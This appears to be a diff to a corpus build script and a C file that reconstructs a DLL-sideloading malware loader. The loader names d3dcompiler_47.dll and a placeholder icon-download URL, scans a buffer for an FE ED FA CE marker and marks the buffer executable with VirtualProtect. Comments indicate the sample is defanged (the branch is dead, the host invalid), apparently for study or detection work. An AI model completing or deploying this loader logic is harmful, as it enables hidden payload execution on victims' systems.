@@ -31,7 +31,6 @@
 set -euo pipefail
 cd "$(dirname "$0")"
 corpus=$PWD
-tools=$corpus/tools
 export TZ=UTC LC_ALL=C LANG=C
 # The default build date; each release below sets its own.
 export SOURCE_DATE_EPOCH=1704164646
@@ -223,7 +222,7 @@ static volatile LONG armed; /* never set anywhere: the branch below is dead */
 static const WCHAR sibling[] = L"d3dcompiler_47.dll";
 static const WCHAR host[] = L"raw.githubusercontent.invalid";
 static const WCHAR url[] = L"https://raw.githubusercontent.invalid/IconStorages/images/main/icon%d.ico";
-static const unsigned char marker[4] = {0xFE, 0xED, 0xFA, 0xCE};
+static const DWORD marker = 0xCEFAEDFE; /* the bytes FE ED FA CE, little-endian */
 static unsigned char buf[65536];
 
 static DWORD scan(void) {
@@ -233,7 +232,9 @@ static DWORD scan(void) {
 	ReadFile(h, buf, sizeof buf, &n, NULL);
 	CloseHandle(h);
 	for (i = 0; i + 4 <= n; i++) {
-		if (buf[i] == marker[0] && buf[i + 1] == marker[1] && buf[i + 2] == marker[2] && buf[i + 3] == marker[3]) {
+		DWORD v;
+		__builtin_memcpy(&v, buf + i, sizeof v);
+		if (v == marker) {
 			VirtualProtect(buf, sizeof buf, PAGE_EXECUTE_READWRITE, &old);
 			return i;
 		}
